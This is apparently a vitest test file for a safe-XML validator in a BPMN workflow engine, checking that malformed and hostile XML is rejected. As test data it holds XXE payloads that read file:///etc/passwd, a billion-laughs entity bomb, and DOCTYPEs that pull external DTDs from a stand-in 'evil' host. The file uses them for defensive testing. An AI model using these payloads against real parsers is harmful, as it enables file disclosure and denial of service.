import { describe, expect, it } from 'vitest';
import { isWorkflowError, WorkflowError, WorkflowErrorCode } from '@duban/workflow';
import { assertWellFormedSafeXml, MAX_XML_BYTES } from './safe-xml.js';

const BPMN = `<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="t">
  <!-- a comment may mention <!DOCTYPE x> and &undefined; freely -->
  <bpmn:process id="督办" isExecutable="true">
    <bpmn:documentation><![CDATA[<!ENTITY x "y"> &x; & < >]]></bpmn:documentation>
    <bpmn:startEvent id="start" name="A &amp; B &#x4e2d;&#20013; &lt;&gt;&quot;&apos;" />
  </bpmn:process>
</bpmn:definitions>`;

function rejection(xml: string): WorkflowError {
  try {
    assertWellFormedSafeXml(xml, 'hostile.bpmn');
  } catch (error) {
    if (isWorkflowError(error, WorkflowErrorCode.DeploymentRejected)) return error;
    throw error;
  }
  throw new Error('expected a rejection');
}

describe('assertWellFormedSafeXml', () => {
  it('accepts a well-formed diagram, with comments, CDATA and character references', () => {
    expect(() => assertWellFormedSafeXml(BPMN, 'ok.bpmn')).not.toThrow();
  });

  it('reports malformed XML with line and column', () => {
    const error = rejection('<a>\n  <b>\n</a>');
    expect(error.problems).toHaveLength(1);
    expect(error.problems[0]).toMatchObject({ resourceName: 'hostile.bpmn', line: 3, column: 1 });
    expect(error.message).toMatch(/^hostile\.bpmn \(line 3, column 1\): XML 格式错误/);
    expect(error.message).toContain("Expected closing tag 'b'");
  });

  it.each([
    ['an empty resource', ''],
    ['plain text', 'not xml'],
    ['a repeated attribute', '<a x="1" x="2"/>'],
    ['text after the root', '<a/> trailing'],
    ['two root elements', '<a/><b/>'],
    ['text before the root', 'lead <a/>'],
    ['an unclosed root', '<a>'],
  ])('rejects %s', (_name, xml) => {
    expect(rejection(xml).code).toBe(WorkflowErrorCode.DeploymentRejected);
  });

  it('rejects an external entity (XXE) before parsing, pointing at the DOCTYPE', () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<foo>&xxe;</foo>`;
    const error = rejection(xxe);
    expect(error.problems[0]).toMatchObject({ line: 2, column: 1 });
    expect(error.message).toContain('<!DOCTYPE is not allowed');
  });

  it('rejects entity expansion (billion laughs)', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      ' <!ENTITY lol "lol">',
      ' <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">',
      ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">',
      ']>',
      '<lolz>&lol3;</lolz>',
    ].join('\n');
    expect(rejection(lol).problems[0].line).toBe(2);
  });

  it.each([
    ['a parameter entity', '<!ENTITY % p SYSTEM "http://evil/x.dtd">%p;<a/>'],
    ['a lower-case doctype', '<!doctype a><a/>'],
    [
      'a DOCTYPE after the declaration without a subset',
      '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>',
    ],
    ['an ELEMENT declaration', '<a><!ELEMENT a ANY></a>'],
  ])('rejects %s', (_name, xml) => {
    expect(rejection(xml).message).toContain('is not allowed');
  });

  it('rejects a reference to an undefined entity, with its position', () => {
    const error = rejection('<a>\n  <b name="x &nbsp; y"/>\n</a>');
    expect(error.problems[0]).toMatchObject({ line: 2, column: 14 });
    expect(error.message).toContain('undefined entity reference');
  });

  it('rejects a bare ampersand', () => {
    expect(rejection('<a>fish & chips</a>').message).toContain('undefined entity reference');
  });

  it.each([
    [
      'a comment opener in an attribute',
      '<r><a b="<!--"/><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>--></r>',
    ],
    ['a PI opener in an attribute', "<r><a b='<?'/><!DOCTYPE x>?></r>"],
  ])('cannot be fooled by %s', (_name, xml) => {
    expect(rejection(xml).message).toContain('`<` is not allowed in an attribute value');
  });

  it('checks entities inside attribute values, with either quote', () => {
    expect(rejection("<a b='x &foo; y'/>").message).toContain('undefined entity reference');
    expect(() => assertWellFormedSafeXml(`<a b='say "hi" &amp; &#x4e2d;' c="it's"/>`, 'q.bpmn')).not.toThrow();
  });

  it('treats processing instructions as text', () => {
    expect(() => assertWellFormedSafeXml('<?xml version="1.0"?><?app a=1&b=<!x?><a/>', 'pi.bpmn')).not.toThrow();
  });

  it('rejects unterminated comments and CDATA', () => {
    expect(rejection('<a><!-- never closed </a>').message).toContain('unterminated comment');
    expect(rejection('<a><![CDATA[ never closed </a>').message).toContain('unterminated CDATA');
  });

  it('rejects resources over the size limit, counting UTF-8 bytes', () => {
    const padding = '中'.repeat(Math.ceil(MAX_XML_BYTES / 3) + 1); // three bytes each
    const error = rejection(`<a>${padding}</a>`);
    expect(error.message).toContain('resource exceeds');
    expect(() => assertWellFormedSafeXml(`<a>${'x'.repeat(1024)}</a>`, 'small.bpmn')).not.toThrow();
  });
});
